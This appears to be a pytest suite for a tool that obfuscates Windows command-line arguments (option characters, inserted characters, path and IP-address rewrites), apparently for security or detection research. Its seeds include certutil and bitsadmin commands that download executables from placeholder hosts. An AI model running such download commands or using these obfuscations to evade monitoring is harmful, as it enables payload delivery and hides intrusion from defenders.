"""Argument obfuscation of Windows programs (ArgFuscator's styles): checked by undoing each rewrite in Python.

No Windows here: each check models what the program's own parser does (the per-program tables in ``cmd``),
path normalisation (``ntpath``) and IPv4 parsing (``inet_aton``, which reads decimal, hex and octal forms).
"""

from __future__ import annotations

import ntpath
import re
import socket

import pytest

from sectune.errors import SectuneError
from sectune.tasks.cmdline.obfuscate import INTENSITIES, REGISTRY, cmd, obfuscate

SEEDS = [
    "certutil -urlcache -split -f http://example.com/a.txt a.txt",
    "certutil -urlcache -f http://10.0.0.1/x.exe C:\\Users\\Public\\x.exe",
    "schtasks /query /fo LIST",
    "taskkill /f /im notepad.exe",
    'reg query "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /s',
    "type C:\\Windows\\System32\\drivers\\etc\\hosts",
    'dir "C:\\Program Files\\Common Files"',
    "ping -n 1 127.0.0.1",
    "bitsadmin /transfer job /download /priority normal https://192.168.1.20/a.bin C:\\Temp\\a.bin",
]
NEW = ["cmd/option-chars", "cmd/char-insertion", "cmd/path-transform", "cmd/url-transform"]
WORD = re.compile(r'"[^"]*"|\S+')


def outputs(name: str, rng_seeds=range(6)):
    for seed in SEEDS:
        for intensity in INTENSITIES:
            for r in rng_seeds:
                try:
                    yield seed, intensity, obfuscate(seed, "cmd", [name], intensity, rng=r).text
                except SectuneError:
                    pass


def pairs(seed: str, text: str) -> list[tuple[str, str]]:
    a, b = WORD.findall(seed), WORD.findall(text)
    assert len(a) == len(b), (seed, text)
    return [(x, y) for x, y in zip(a, b) if x != y]


@pytest.mark.parametrize("name", NEW)
def test_registered_with_a_family_and_applies_at_every_intensity(name):
    assert REGISTRY[name].family in {"options", "escaping", "substitution", "encoding"}
    cases = list(outputs(name))
    assert {i for _, i, _ in cases} == set(INTENSITIES)
    assert all(text != seed for seed, _, text in cases)


def test_option_chars_only_use_characters_the_program_accepts():
    unicode_seen = False
    for seed, intensity, text in outputs("cmd/option-chars"):
        changed = pairs(seed, text)
        program = seed.split()[0]
        assert changed and (len(changed) == 1 or intensity != "light")
        for old, new in changed:
            assert old[1:] == new[1:] and new[0] in cmd.OPTION_CHARS[program], (seed, text)
            unicode_seen |= not new[0].isascii()
    assert unicode_seen


def test_char_insertion_removes_back_to_the_seed():
    for seed, intensity, text in outputs("cmd/char-insertion"):
        program = seed.split()[0]
        stripped = "".join(c for c in text if c not in cmd.IGNORED_CHARS[program])
        assert stripped == seed and text != seed
        assert all(old.startswith(("-", "/")) for old, _ in pairs(seed, text))  # options only, never paths or URLs
        if intensity == "light":
            assert len(pairs(seed, text)) == 1


def _norm_path(word: str) -> str:
    body = word.strip('"').replace("/", "\\")
    long_names = {v.lower(): k for k, v in cmd.SHORT_NAMES.items()}
    body = "\\".join(long_names.get(p.lower(), p) for p in body.split("\\"))
    return ntpath.normpath(body).lower()


def test_path_transform_normalises_to_the_same_path():
    kinds = set()
    for seed, _intensity, text in outputs("cmd/path-transform"):
        for old, new in pairs(seed, text):
            assert _norm_path(old) == _norm_path(new), (seed, text)
            kinds |= {
                k
                for k, hit in [
                    ("dot", "\\.\\" in new or new.startswith(".\\")),
                    ("detour", "..\\" in new),
                    ("slash", "/" in new),
                    ("short", "~" in new),
                ]
                if hit
            }
    assert kinds == {"dot", "detour", "slash", "short"}


def test_path_transform_leaves_builtins_without_slashes_and_dlls_alone():
    for r in range(20):
        text = obfuscate("type C:\\Windows\\win.ini", "cmd", ["path-transform"], "heavy", rng=r).text
        assert "/" not in text
    with pytest.raises(SectuneError):
        obfuscate("rundll32 shell32.dll,Control_RunDLL", "cmd", ["path-transform"], "light", rng=1)


def _norm_url(word: str) -> str:
    m = re.fullmatch(r"(?i)(https?):[/\\]{2}([^/\\]+)(.*)", word.strip('"'))
    scheme, host, rest = m.groups()
    if re.fullmatch(r"[0-9a-fA-Fx.]+", host):
        host = socket.inet_ntoa(socket.inet_aton(host))
    return f"{scheme.lower()}://{host.lower()}{rest.replace(chr(92), '/')}"


def test_url_transform_is_the_same_url():
    ip_forms = set()
    for seed, _intensity, text in outputs("cmd/url-transform"):
        for old, new in pairs(seed, text):
            assert _norm_url(old) == _norm_url(new), (seed, text)
            host = re.split(r"[/\\]+", new.split(":", 1)[1])[1]
            if _norm_url(old).split("/")[2][0].isdigit() and host != _norm_url(old).split("/")[2]:
                ip_forms.add("hex" if "0x" in host else "octal" if host.startswith("0") else "number")
    assert ip_forms >= {"hex", "octal", "number"}


def test_light_changes_one_argument():
    for name in NEW:
        for seed, intensity, text in outputs(name):
            if intensity == "light":
                assert len(pairs(seed, text)) == 1, (name, text)
